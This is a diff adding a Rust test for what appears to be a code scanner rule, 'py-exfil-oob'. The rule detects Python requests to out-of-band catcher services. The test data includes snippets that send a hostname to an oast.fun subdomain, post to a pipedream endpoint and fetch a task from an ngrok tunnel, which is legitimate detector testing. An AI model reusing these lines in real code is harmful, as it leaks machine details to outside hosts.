@@ -355,3 +355,24 @@ fn data_sent_to_a_raw_public_ip() {
         assert!(!hit(code), "{code}: {:?}", module(code));
     }
 }
+
+#[test]
+fn requests_to_out_of_band_services() {
+    let hit = |code: &str| module(code).contains(&"py-exfil-oob".to_string());
+    // Any request counts: the interaction itself is the report.
+    for code in [
+        "import requests, socket\nrequests.get('https://abcdef1234.oast.fun/?h=' + socket.gethostname())\n",
+        "import urllib.request\nU = 'https://eo1abcdefgh.m.pipedream.net'\nurllib.request.urlopen(U, data=b'x')\n",
+        "import requests\ns = requests.Session()\ns.get(f'https://{ID}.ngrok-free.app/task')\n",
+    ] {
+        assert!(hit(code), "{code}: {:?}", module(code));
+    }
+    // ngrok's own API, a catcher named in a string that is never requested, look-alike hosts.
+    for code in [
+        "import requests\nrequests.get('https://api.ngrok.com/tunnels', headers=H)\n",
+        "DOCS = 'see https://webhook.site for a test endpoint'\nprint(DOCS)\n",
+        "import requests\nrequests.get('https://notwebhook.site.example.org/x')\n",
+    ] {
+        assert!(!hit(code), "{code}: {:?}", module(code));
+    }
+}
